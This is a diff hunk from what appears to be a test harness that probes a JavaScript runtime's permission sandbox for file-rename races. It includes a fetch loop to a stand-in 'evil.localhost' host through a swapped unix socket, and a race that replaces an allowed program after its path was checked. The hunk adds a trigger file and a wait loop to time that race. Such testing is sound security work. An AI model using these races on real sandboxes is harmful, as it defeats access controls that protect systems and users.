@@ -101,9 +101,10 @@ for (let i = 0; i < 30; i++) {
 for (let i = 0; i < 400; i++)
 	await fetch('http://evil.localhost/', { unix: `${mine}/swapdir/socket` }).then(r => r.text()).then(t => { show(t); i = 1000; }, () => 0);
 //// programs while names change
-// hole: by chance: a program is started by the path that was checked; but who may rename its folder may replace it, too
+// Names change from when the policy has been read.
 // options: --allow-run={in}/swapdir/bin/tool --allow-read={in} --allow-env=PATH
-// run: mkdir -p {in}/real/bin; printf '#!/bin/sh\nexit 0\n' >{in}/real/bin/tool; chmod 755 {in}/real/bin/tool; python3 {swapper} {in} & s=$!; until [ -e {in}/ready ]; do sleep 0.02; done; {jsr} {script}; kill $s
+// run: mkdir -p {in}/real/bin; printf '#!/bin/sh\nexit 0\n' >{in}/real/bin/tool; chmod 755 {in}/real/bin/tool; python3 {swapper} {in} go & s=$!; until [ -e {in}/ready ]; do sleep 0.02; done; (sleep 0.3; touch {in}/go) & {jsr} {script}; kill $s
+for (let i = 0; i < 1000 && !fs.existsSync(`${mine}/go`); i++) await wait(10);
 for (let i = 0; i < 400; i++) {
 	let r;
 	try { r = child.spawnSync(`${mine}/swapdir/bin/tool`); } catch { continue; }
